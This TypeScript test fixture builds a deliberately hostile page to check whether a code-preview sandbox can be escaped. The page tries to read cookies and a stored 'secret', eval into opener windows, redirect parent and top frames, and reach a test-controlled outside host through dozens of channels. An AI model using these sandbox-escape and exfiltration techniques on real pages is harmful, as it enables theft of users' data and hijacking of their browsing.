/** A page that tries every way out of the preview, for a server of the test's own. Runs as text in the frame. */
import type { ServedProject } from '../preview.ts';

/** Each attempt has a name; one that comes through says so, and the outside hears of every request. */
const ATTEMPTS = (outside: string) => `
const OUT = ${JSON.stringify(outside)};
const results = {};
const attempt = async (name, act) => {
  try {
    const got = await Promise.race([act(), new Promise((_, no) => setTimeout(() => no(new Error('nothing came')), 400))]);
    results[name] = got === undefined || got === null || got === '' ? 'nothing' : 'GOT ' + String(got).slice(0, 80);
  } catch (error) {
    results[name] = 'refused';
  }
};
const add = (tag, attributes, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element[name] = value;
  parent.append(element);
  return element;
};
const loads = (element) => new Promise((yes, no) => { element.onload = () => yes('loaded'); element.onerror = no; });
const native = (prototype, name) => Object.getOwnPropertyDescriptor(prototype, name);

async function attack() {
  // The site's storage, under the names that the preview shows in its place too.
  await attempt('cookies of the site', () => document.cookie);
  await attempt('localStorage of the site', () => localStorage.getItem('twinstack/settings') ?? localStorage.getItem('secret'));
  await attempt('localStorage by the prototype', () => native(Window.prototype, 'localStorage').get.call(window).getItem('secret'));
  await attempt('indexedDB', () => new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('opened'); open.onerror = no; }));
  await attempt('caches', () => caches.open('x'));
  await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
  await attempt('file system', () => navigator.storage.getDirectory());
  await attempt('cookie store', () => cookieStore.set('a', 'b').then(() => cookieStore.get('a')));

  // The pages around it.
  for (const [name, frame] of [['parent', parent], ['top', top]]) {
    await attempt(name + ' document', () => frame.document);
    await attempt(name + ' storage', () => frame.localStorage);
    await attempt(name + ' address', () => frame.location.href);
    await attempt(name + ' navigation', () => { frame.location = OUT + '/navigate-' + name; });
    await attempt(name + ' replace', () => { frame.location.replace(OUT + '/replace-' + name); });
  }
  if (name !== 'attack') await attempt('opener', () => opener);
  else {
    // The page that opened this one can do no more than this one.
    opener.eval('try { document.title = top.localStorage.getItem("secret") } catch {}');
    opener.parent.location = OUT + '/opener-parent';
    opener.top.location.replace(OUT + '/opener-top');
    opener.document.body.insertAdjacentHTML('beforeend', '<iframe src="' + OUT + '/opener-frame"></iframe>');
    opener.location = OUT + '/opener-location';
  }
  await attempt('frame element', () => frameElement);
  await attempt('window.open', () => window.open(OUT + '/window'));
  await attempt('window.open of the top', () => native(window, 'open') && Window.prototype.open);
  parent.postMessage('preview-shown', '*');
  top.postMessage({ type: 'navigate', url: OUT }, '*');
  parent.postMessage('open', '*', [new MessageChannel().port1]);

  // The network.
  await attempt('fetch', () => fetch(OUT + '/fetch').then((r) => r.text()));
  await attempt('fetch of the site', () => fetch(${JSON.stringify('SITE')}).then((r) => r.text()));
  await attempt('fetch with a keepalive', () => fetch(OUT + '/keepalive', { keepalive: true, method: 'POST', body: 'x' }));
  await attempt('XMLHttpRequest', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', OUT + '/xhr'); x.send(); }));
  await attempt('WebSocket', () => new Promise((yes, no) => { const s = new WebSocket(OUT.replace('http', 'ws') + '/ws'); s.onopen = () => yes('open'); s.onerror = no; }));
  await attempt('EventSource', () => new Promise((yes, no) => { const s = new EventSource(OUT + '/es'); s.onopen = () => yes('open'); s.onerror = no; }));
  navigator.sendBeacon(OUT + '/beacon', 'x');
  await attempt('image', () => loads(add('img', { src: OUT + '/img' })));
  await attempt('image as HTML', () => { document.body.insertAdjacentHTML('beforeend', '<img src="' + OUT + '/img-html" srcset="' + OUT + '/img-set 2x">'); });
  await attempt('script', () => loads(add('script', { src: OUT + '/script' })));
  await attempt('style sheet', () => loads(add('link', { rel: 'stylesheet', href: OUT + '/css' })));
  await attempt('style', () => { add('style', { textContent: '@import url(' + OUT + '/import); body { background: url(' + OUT + '/bg) } @font-face { font-family: x; src: url(' + OUT + '/font) } p { font-family: x }' }); });
  await attempt('media', () => loads(add('video', { src: OUT + '/video', poster: OUT + '/poster', preload: 'auto' })));
  await attempt('object', () => loads(add('object', { data: OUT + '/object' })));
  await attempt('embed', () => loads(add('embed', { src: OUT + '/embed' })));
  await attempt('frame', () => { add('iframe', { src: OUT + '/iframe' }); });
  await attempt('svg', () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + OUT + '/svg"/><use href="' + OUT + '/use#x"/></svg>'); });
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest']) {
    await attempt(rel, () => { add('link', { rel, href: OUT + '/' + rel, as: 'image' }, document.head); });
    await attempt(rel + ' as HTML', () => { document.head.insertAdjacentHTML('beforeend', '<link rel="' + rel + '" as="image" href="' + OUT + '/' + rel + '-html">'); });
  }
  await attempt('speculation rules', () => { add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [OUT + '/speculation'] }] }) }); });
  await attempt('form', () => { const form = add('form', { action: OUT + '/form', method: 'post' }); HTMLFormElement.prototype.requestSubmit.call(form); });
  await attempt('form by its frame', () => { add('form', { action: OUT + '/form-target', target: '_top' }).requestSubmit(); });
  await attempt('link', () => { add('a', { href: OUT + '/link', target: '_top', textContent: 'x' }).click(); });
  await attempt('ping', () => { const a = add('a', { href: '#x', ping: OUT + '/ping' }); a.click(); });
  await attempt('import', () => import(OUT + '/module'));
  await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('runs'); w.onerror = no; }));
  await attempt('shared worker', () => new SharedWorker(URL.createObjectURL(new Blob([''])))); 
  await attempt('peer connection', () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }));
  await attempt('peer connection of a frame', () => new Promise((yes, no) => {
    addEventListener('message', ({ data }) => { if (data === 'peer') yes('made'); });
    add('iframe', { srcdoc: '<script>if (window.RTCPeerConnection) parent.postMessage("peer", "*")<' + '/script>' });
    setTimeout(no, 350);
  }));
  await attempt('frame in a shadow', () => new Promise((yes, no) => {
    addEventListener('message', ({ data }) => { if (data === 'shadow') yes('runs'); });
    const root = add('div', {}).attachShadow({ mode: 'closed' });
    root.innerHTML = '<iframe srcdoc="&lt;script>parent.postMessage(\\'shadow\\', \\'*\\')&lt;/script>"></iframe>';
    setTimeout(no, 350);
  }));
  await attempt('policy of the report', () => { new Image().src = OUT + '/last'; });
  await attempt('clipboard', () => navigator.clipboard.readText());
  await attempt('notification', () => Notification.requestPermission().then((answer) => answer === 'granted' ? 'granted' : undefined));
  document.getElementById('out').textContent = 'RESULTS ' + JSON.stringify(results);
}
attack();`;

/** Opens the attack in a pop-up, and tries to lead others out. */
const POP_UPS = (outside: string) => `<p id="said"></p><button>Attack</button><script>
  const OUT = ${JSON.stringify(outside)};
  document.querySelector('button').onclick = () => {
    open('/', 'attack');
    const away = open('/calm', 'away');
    away.location = OUT + '/pop-up-location';
    away.location.replace(OUT + '/pop-up-replace');
    away.top.location = OUT + '/pop-up-top';
    away.fetch(OUT + '/pop-up-fetch');
    away.eval('top.location = "' + OUT + '/pop-up-eval"; new Image().src = "' + OUT + '/pop-up-image"');
    const blank = open('', 'blank');
    blank.document.write('<img src="' + OUT + '/pop-up-written"><iframe src="' + OUT + '/pop-up-frame"></iframe><script>fetch("' + OUT + '/pop-up-script")<' + '/script>');
    open(OUT + '/pop-up-open', 'outside');
    open('javascript:top.location = "' + OUT + '/pop-up-javascript"', 'script');
    document.getElementById('said').textContent = 'tried';
  };
</script>`;

const LAST_WORDS = (outside: string) => `<p>gone</p><script>
  try { location.href = ${JSON.stringify(`${outside}/location`)}; } catch {}
  window['loc' + 'ation'].href = ${JSON.stringify(`${outside}/real-location`)};
</script>`;

const HEAD = (outside: string) => `<!DOCTYPE html><title>Hostile</title>
<link rel="dns-prefetch" href="${outside}/parsed-dns"><link rel="preconnect" href="${outside}/parsed-preconnect">
<link rel="prefetch" href="${outside}/parsed-prefetch"><link rel="stylesheet" href="${outside}/parsed-css">
<script src="${outside}/parsed-script"></script><img src="${outside}/parsed-img" srcset="${outside}/parsed-set 2x">
<iframe src="${outside}/parsed-frame"></iframe><iframe srcdoc="<img src='${outside}/parsed-srcdoc'>"></iframe>
<object data="${outside}/parsed-object"></object><embed src="${outside}/parsed-embed">
<video src="${outside}/parsed-video" poster="${outside}/parsed-poster"></video>
<div style="background: url(${outside}/parsed-style)"></div><style>@import "${outside}/parsed-import";</style>
<div><template shadowrootmode="closed"><img src="${outside}/parsed-shadow"></template></div>`;

/**
 * `/` attacks and lists what came of it; `/refresh` and `/leave` try to take the frame elsewhere; `/pop-ups` does both in
 * windows of its own.
 */
export function hostileSite(outside: string, siteUrl: string): ServedProject {
  const attack = `${HEAD(outside)}<p id="out">attacking</p><script>${ATTEMPTS(outside).replace('"SITE"', JSON.stringify(siteUrl))}</script>`;
  const pages = {
    '/': attack,
    '/refresh': `<meta http-equiv="refresh" content="0; url=${outside}/refresh"><p>refreshing</p>`,
    '/leave': LAST_WORDS(outside),
    '/pop-ups': POP_UPS(outside),
    '/calm': '<p>calm</p>',
  };
  const source = `const pages = ${JSON.stringify(pages)};
require('node:http').createServer((request, response) => {
  response.setHeader('Content-Type', 'text/html; charset=utf-8');
  response.end(pages[request.url] ?? 'nothing');
}).listen(3000);`;
  return { stack: 'node', files: { 'main.js': source }, command: ['node', 'main.js'] };
}
